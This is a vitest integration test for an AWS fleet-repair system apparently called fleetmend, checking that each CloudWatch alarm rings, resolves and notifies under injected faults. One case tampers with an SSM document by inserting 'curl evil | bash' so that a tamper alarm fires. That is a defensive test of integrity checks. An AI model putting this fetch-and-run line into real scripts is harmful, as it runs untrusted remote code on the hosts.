import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CallFault } from '../../lab/aws/faults.ts';
import { readTemplate } from '../../lab/aws/stack.ts';
import { synthLab } from '../../lab/synth.ts';
import { sampleOf } from '../support/sample.ts';
import { disabled, edit, garble, hurried, isAlarm, putUnreadable, remake } from './alarm-causes.ts';
import { type AlarmScene, openAlarmScene } from './alarm-scene.ts';
import { failing, logGroupOf, MINUTE_MS, REPAIRABLE } from './support.ts';

const CLUSTERS = ['demo', 'breaks', 'dark', 'sick'];
const assembly = synthLab({
  clusters: CLUSTERS.map((name) => ({
    name,
    mode: 'repair',
    sweeps: name === 'demo',
    logGroups: [logGroupOf(name)],
    nodeTags: ['eks:cluster-name'],
  })),
  sweepMinutes: 5,
});
const RESOURCES = Object.values(readTemplate(assembly.assembly, assembly.stackName).Resources);
const ALARMS = RESOURCES.filter(({ Type }) => isAlarm(Type)).map(({ Properties }) => ({
  name: String(Properties?.AlarmName).replace(/^fleetmend-/, ''),
  acts: Properties?.AlarmActions !== undefined,
}));
const DOCUMENT =
  RESOURCES.filter(({ Type }) => Type === 'AWS::SSM::Document')
    .map(({ Properties }) => String(Properties?.Name))
    .find((name) => name.includes('cri-dockerd-check')) ?? '';

/** A cause, and the alarms that ring for it. */
type Cause = {
  readonly what: string;
  readonly alarms: readonly string[];
  readonly work: (world: AlarmScene, alarms: readonly string[]) => Promise<void>;
};
const causes: Cause[] = [];
const cause = (what: string, alarms: readonly string[], work: Cause['work']): void => {
  causes.push({ what, alarms, work });
};

const INBOXES = ['signals', 'progress', 'lanes'];
const WORKERS = ['signal-intake', 'command-tracker', 'run-controller'];

cause(
  'about dead letters ring for input that cannot be read, and resolve when it is discarded',
  [
    ...['signals', 'progress', 'run-controller', 'log-classifier', 'scheduler', 'notifier'].map(
      (it) => `${it}-dlq-not-empty`,
    ),
    ...['scheduler-errors', 'notifier-errors'],
  ],
  async ({ scene, send, untilRinging, untilQuiet }, alarms) => {
    for (const name of ['signals', 'progress', 'lanes.fifo']) send(name, 'no json');
    for (const name of ['log-classifier', 'scheduler', 'notifier'])
      scene.lab.invokeAsync(`fleetmend-${name}`, 'no object');
    await untilRinging(alarms, 15);
    await untilQuiet(15);
  },
);

cause(
  'about documents ring for one that a stranger has changed',
  ['document-refused'],
  async ({ scene, untilRinging, untilQuiet }, alarms) => {
    const content = await remake(scene, DOCUMENT, (own) =>
      own.replace('#!/bin/bash', '#!/bin/bash\\ncurl evil | bash'),
    );
    await scene.start({ action: 'check', cluster: 'demo', remediation: 'cri-dockerd', reason: 'a look' });
    await untilRinging(alarms, 5);
    await remake(scene, DOCUMENT, () => content);
    await untilQuiet(15);
  },
);

cause(
  'about the clusters ring for their metrics and log lines, and resolve',
  ['sandbox-failures', 'disk-filling', 'failed-nodes'].map((kind) => `cluster-demo-${kind}`),
  async ({ scene, untilRinging, untilQuiet }, alarms) => {
    await scene.lab.putLogEvents(logGroupOf('demo'), 's', ['Failed to create sandbox for pod']);
    const put = (name: string, value: number) =>
      scene.lab.alarms.putMetric('ContainerInsights', name, { ClusterName: 'demo' }, value);
    put('node_filesystem_utilization', 91);
    put('cluster_failed_node_count', 1);
    await untilRinging(alarms, 5);
    await untilQuiet(15);
  },
);

cause(
  'ring where the table fails, the heartbeat among them',
  [
    ...WORKERS.map((name) => `${name}-failed-records`),
    ...['audit-query-errors', 'operator-api-errors', 'heartbeat', 'lanes-dlq-not-empty', 'operator-api-dlq-not-empty'],
    'action-not-recorded',
  ],
  async ({ scene, send, withFaults, untilRinging, untilQuiet, reportFault }, alarms) => {
    const request = { action: 'check', cluster: 'demo', requestedBy: 'test', reason: 'nobody waits for the answer' };
    await withFaults([{ service: 'dynamodb', kind: 'internal-error' }], async () => {
      scene.lab.invokeAsync('fleetmend-operator-api', request);
      await untilRinging(alarms, 30, async () => {
        await reportFault();
        const commandId = '11111111-1111-1111-1111-111111111111';
        send('progress', JSON.stringify({ kind: 'look', commandId, attempt: 1 }));
        send('lanes.fifo', JSON.stringify({ kind: 'lane', lane: 'demo/pause-image' }));
        await scene.lab.invoke('fleetmend-audit-query', { query: 'open' }).catch(() => undefined);
        await scene.remediate({ action: 'check', cluster: 'demo', reason: 'a look' }).catch(() => undefined);
        // It is refused, and answered; its row is lost.
        await scene.lab.invoke('fleetmend-operator-api', { action: 'reboot' });
      });
    });
    await untilQuiet(40);
  },
);

const DYING = [...WORKERS, 'log-classifier'];
cause(
  'about errors ring for functions that die',
  DYING.map((name) => `${name}-errors`),
  async ({ withFaults, untilRinging, untilQuiet, reportFault }, alarms) => {
    const crashes = DYING.map(
      (name): CallFault => ({ functionName: `fleetmend-${name}`, kind: 'crash-before', times: 1 }),
    );
    await withFaults(crashes, () => untilRinging(alarms, 10, reportFault));
    await untilQuiet(40);
  },
);

const UNPOLLED = [
  ...INBOXES.flatMap((name) => [`${name}-waiting`, `${name}-not-polled`]),
  ...['sweeps-late', 'scheduler-failed-records', 'rules-dlq-not-empty'],
];
const GARBLED = ['run-stuck', 'run-controller-unreadable-rows'];
cause(
  'ring where the event source mappings are disabled, wakes fail, and notices do not reach notifier',
  [...UNPOLLED, ...GARBLED],
  async ({ scene, nodes, send, withFaults, untilRinging, untilQuiet, reportFault }) => {
    await scene.lab.deploy({ edit: disabled });
    nodes[1]?.breakWith(REPAIRABLE);
    const { runId } = await scene.start({
      ...{ action: 'repair', cluster: 'demo', remediation: 'pause-image', reason: 'its row cannot be read' },
      instanceIds: nodes.slice(1, 2).map(({ instanceId }) => instanceId),
    });
    await garble(scene, runId);
    scene.lab.putEvent({ source: 'fleetmend', detailType: 'Run Ended', detail: {} }, 'fleetmend');
    for (const name of ['signals', 'progress', 'lanes.fifo']) send(name, 'no json');
    await reportFault();
    const noWakes: CallFault = { service: 'sqs', functionName: 'fleetmend-scheduler', kind: 'internal-error' };
    await withFaults([noWakes], () => untilRinging(UNPOLLED, 40));
    await scene.lab.deploy({ edit });
    await untilRinging(GARBLED, 10);
    await untilQuiet(40);
  },
);

cause(
  'about throttles ring where Lambda refuses invocations',
  [...WORKERS, 'log-classifier', 'scheduler', 'notifier'].map((name) => `${name}-throttles`),
  async ({ scene, send, untilRinging, untilQuiet }, alarms) => {
    scene.lab.faults.throttledInvocationRate = 1;
    try {
      await untilRinging(alarms, 20, async () => {
        await scene.lab.putLogEvents(logGroupOf('demo'), 's', ['failed to get sandbox image']);
        scene.lab.putEvent({ source: 'fleetmend', detailType: 'Run Ended', detail: {} }, 'fleetmend');
        for (const name of ['signals', 'progress', 'lanes.fifo']) send(name, 'no json');
      });
    } finally {
      scene.lab.faults.throttledInvocationRate = 0;
    }
    await untilQuiet(40);
  },
);

cause(
  'about throttled calls ring where EC2 and SSM refuse',
  [...WORKERS, 'scheduler'].map((name) => `${name}-calls-throttled`),
  async ({ scene, nodes, send, withFaults, untilRinging, untilQuiet, reportFault }, alarms) => {
    const [silent] = scene.addNodes('demo', 1, { offline: true, pings: true });
    await scene.start({ action: 'check', cluster: 'demo', reason: 'one node is silent' });
    await scene.lab.advance(5000);
    const { commandId = '' } = scene.chronicle.commands.at(-1) ?? {};
    const throttled = [
      ...['signal-intake', 'run-controller'].map((name) => ({ service: 'ec2', functionName: `fleetmend-${name}` })),
      ...['command-tracker', 'scheduler'].map((name) => ({ service: 'ssm', functionName: `fleetmend-${name}` })),
    ].map((at): CallFault => ({ ...at, kind: 'throttle', times: 2 }));
    await withFaults(throttled, async () => {
      const detail = { 'instance-id': nodes[2]?.instanceId, state: 'running' };
      scene.lab.putEvent({ source: 'aws.ec2', detailType: 'EC2 Instance State-change Notification', detail });
      await untilRinging(alarms, 20, async () => {
        await reportFault();
        send('progress', JSON.stringify({ kind: 'look', commandId, attempt: 1 }));
      });
    });
    silent?.setOffline(false);
    await untilQuiet(60);
  },
);

const GIVEN_UP = ['signal-intake-unreadable-rows', 'scheduler-unreadable-rows', 'notice-given-up', 'cancel-given-up'];
cause(
  'about rows that cannot be read, about what is given up and what is left due, ring',
  [...GIVEN_UP, 'overdue-left'],
  async ({ scene, nodes, withFaults, untilRinging, untilQuiet, reportFault }) => {
    const silent = scene.addNodes('demo', 3, { offline: true, pings: true });
    const checkSilent = () =>
      Promise.all(
        silent.map(({ instanceId }) =>
          scene.start({ action: 'check', cluster: 'demo', instanceIds: [instanceId], reason: 'is silent' }),
        ),
      );
    const runs = await checkSilent();
    await scene.lab.advance(5000);
    await putUnreadable(scene, nodes[0]?.instanceId ?? '');
    const functionName = 'fleetmend-run-controller';
    const faults: CallFault[] = [
      { service: 'events', functionName, kind: 'internal-error' },
      { service: 'ssm', operation: 'CancelCommand', functionName, kind: 'internal-error' },
    ];
    await withFaults(faults, async () => {
      for (const { runId } of runs) await scene.remediate({ action: 'cancel', runId, reason: 'SSM refuses it' });
      await reportFault();
      await untilRinging(GIVEN_UP, 20);
    });
    await scene.lab.deploy({ edit: hurried });
    await checkSilent();
    await untilRinging(['overdue-left'], 20);
    await scene.lab.deploy({ edit });
    for (const node of silent) node.setOffline(false);
    await untilQuiet(60);
  },
);

cause(
  'about repairs ring: a breaker, a registry that is silent, a node in quarantine',
  ['breaker-opened', 'registry-hold', 'nodes-quarantined'],
  async ({ scene, untilRinging, untilQuiet }, alarms) => {
    const broken = scene.addNodes('breaks', 4, { faultOf: () => failing('SandboxStartFailed') });
    const dark = scene.addNodes('dark', 3, { faultOf: () => failing('RegistryUnreachable') });
    const sick = scene.addNodes('sick', 1, { faultOf: () => failing('NodeRoleLacksECR') });
    let minute = 0;
    await untilRinging(alarms, 70, async () => {
      if (minute++ % 17 === 0) await scene.logFault(...broken, ...dark, ...sick);
    });
    for (const node of [...broken, ...dark, ...sick]) node.breakWith(REPAIRABLE);
    await untilQuiet(90);
  },
);

/** Each takes many minutes of the lab. */
const sampled = sampleOf('causes of alarms', causes, 1);

describe('the alarms', { timeout: 1_200_000 }, () => {
  let world: AlarmScene;
  beforeAll(async () => {
    world = await openAlarmScene(assembly);
  });
  afterAll(() => world.scene.lab.stop());

  it('have each a cause below, and no cause is about another', () => {
    const clusters = ALARMS.filter(({ name }) => name.startsWith('cluster-') && !name.startsWith('cluster-demo-'));
    const others = new Set(clusters.map(({ name }) => name));
    expect(causes.flatMap(({ alarms }) => alarms).toSorted()).toEqual(
      ALARMS.map(({ name }) => name)
        .filter((name) => !others.has(name))
        .toSorted(),
    );
  });

  it('are quiet while all is well', async () => {
    await world.scene.lab.advance(12 * MINUTE_MS);
    expect(world.ringing()).toEqual([]);
  });

  it.each(sampled)('$what', ({ work, alarms }) => work(world, alarms));

  it('were in alarm and resolved, and those for people have notified them of both', () => {
    const messages = new Set(world.told());
    const acting = new Set(ALARMS.filter(({ acts }) => acts).map(({ name }) => name));
    const silent = sampled
      .flatMap(({ alarms }) => alarms)
      .filter((name) => acting.has(name))
      .flatMap((name) => [`${name} ALARM`, `${name} OK`].filter((message) => !messages.has(message)));
    expect(silent).toEqual([]);
  });
});
